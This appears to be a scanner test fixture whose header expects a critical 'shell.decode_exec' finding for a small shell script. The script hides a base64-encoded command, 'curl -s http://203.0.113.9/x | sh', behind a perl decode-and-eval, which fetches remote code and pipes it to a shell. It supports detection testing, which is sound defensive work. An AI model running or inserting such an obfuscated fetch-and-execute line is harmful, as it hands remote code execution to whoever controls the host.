# expect: shell.decode_exec critical
# path: scripts/u.sh
#!/bin/sh
perl -MMIME::Base64 -e 'eval decode_base64("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo")'
